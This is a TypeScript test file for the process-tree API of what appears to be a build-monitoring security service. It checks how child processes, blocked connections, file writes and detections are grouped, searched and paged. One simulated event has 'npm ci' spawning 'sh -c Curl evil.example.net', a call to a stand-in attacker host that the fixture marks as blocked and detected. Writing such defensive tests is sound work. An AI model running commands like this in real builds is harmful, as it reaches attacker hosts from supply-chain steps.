import { expect, test } from 'vitest'
import {
  connect,
  detection,
  exec,
  execIdOf,
  query,
  request,
  write,
} from '../ingest/sample-events.ts'
import { TestAgent } from '../ingest/test-agent.ts'
import { ServerRig } from '../server-rig.ts'

const of = (pid: number) => ({ execId: execIdOf(pid) })
const child = (seq: number, pid: number, parent: number, argv: string[]) =>
  exec(seq, pid, { parentExecId: execIdOf(parent), argv })

test('a tree of processes is read branch by branch, with what each did itself', async () => {
  await using rig = await ServerRig.start()
  const agent = new TestAgent(rig.url)
  await agent.start(rig.acme.keys.agent)
  await agent.send(
    agent.pack([
      exec(1, 100),
      child(2, 101, 100, ['npm', 'ci']),
      child(3, 102, 101, ['sh', '-c', 'Curl evil.example.net']),
      connect(4, { ...of(102), verdict: 'blocked', count: 3 }),
      write(5, '/w/a', of(101)),
    ]),
  )
  await agent.send(
    agent.pack([
      query(6, { ...of(102), verdict: 'would-block' }),
      request(7, of(102)),
      write(8, '/w/b', of(101)),
      child(9, 103, 101, ['node']),
      child(10, 104, 999, ['cron']),
      detection(11, of(102)),
    ]),
  )
  await rig.server.context.ingest.indexer.settled(60_000)
  const get = async (asked = '') => {
    const { status, body } = await rig.ask(
      'GET',
      `/v1/orgs/acme/jobs/${agent.jobId}/process-tree?${asked}`,
      { as: rig.acme.keys.viewer },
    )
    expect(status, JSON.stringify(body)).toBe(200)
    return body as { items: { pid: number }[]; next: number | null }
  }
  const pids = async (asked: string) => (await get(asked)).items.map(({ pid }) => pid)

  expect(await get()).toMatchObject({
    items: [
      { pid: 100, children: 1, connections: 0 },
      { pid: 104, children: 0 },
    ],
    next: null,
  })
  expect(await get(`parent=${execIdOf(101)}`)).toMatchObject({
    items: [
      {
        pid: 102,
        children: 0,
        connections: 3,
        requests: 1,
        files: 0,
        refused: 4,
        detections: 1,
        images: [{ argv: ['sh', '-c', 'Curl evil.example.net'] }],
      },
      { pid: 103, connections: 0, refused: 0, detections: 0 },
    ],
  })
  expect(await get(`parent=${execIdOf(100)}`)).toMatchObject({ items: [{ pid: 101, files: 2 }] })
  expect(await pids(`line=${execIdOf(102)}`)).toEqual([100, 101, 102])
  expect(await pids('search=curl')).toEqual([102])
  for (const none of ['%', 'c_rl', '~', 'execId', 'cwd', 'false'])
    expect(await pids(`search=${encodeURIComponent(none)}`)).toEqual([])
  const first = await get(`parent=${execIdOf(101)}&limit=1`)
  expect(await pids(`parent=${execIdOf(101)}&after=${first.next}`)).toEqual([103])
})

test('what a fork without a program of its own has made stands below the ancestor that has one', async () => {
  await using rig = await ServerRig.start()
  const agent = new TestAgent(rig.url)
  await agent.start(rig.acme.keys.agent)
  const forked = exec(2, 102, { parentExecId: execIdOf(101), ancestorExecId: execIdOf(100) })
  await agent.send(agent.pack([exec(1, 100), forked]))
  await rig.server.context.ingest.indexer.settled(60_000)
  const { body } = await rig.ask(
    'GET',
    `/v1/orgs/acme/jobs/${agent.jobId}/process-tree?parent=${execIdOf(100)}`,
    { as: rig.acme.keys.viewer },
  )
  expect(body).toMatchObject({ items: [{ pid: 102, parentExecId: execIdOf(100) }] })
})

test('what a fork without a program of its own does stands beside the one whose program it runs', async () => {
  await using rig = await ServerRig.start()
  const agent = new TestAgent(rig.url)
  await agent.start(rig.acme.keys.agent)
  const forked = { execId: execIdOf(101), forkOf: execIdOf(100) }
  await agent.send(agent.pack([exec(1, 100), connect(2, forked), write(3, '/w/a', forked)]))
  await rig.server.context.ingest.indexer.settled(60_000)
  const get = (view: string): ReturnType<ServerRig['ask']> =>
    rig.ask('GET', `/v1/orgs/acme/jobs/${agent.jobId}/${view}`, { as: rig.acme.keys.viewer })
  const programs = [{ exe: '/usr/bin/node', step: 'build' }]
  for (const view of ['destinations', 'files'])
    expect((await get(view)).body, view).toMatchObject({ items: [{ programs }] })
  expect((await get('destinations')).body).toMatchObject({
    items: [{ processes: [{ execId: execIdOf(100) }] }],
  })
  expect((await get('process-tree')).body).toMatchObject({
    items: [{ pid: 100, connections: 1, files: 1 }],
  })
})
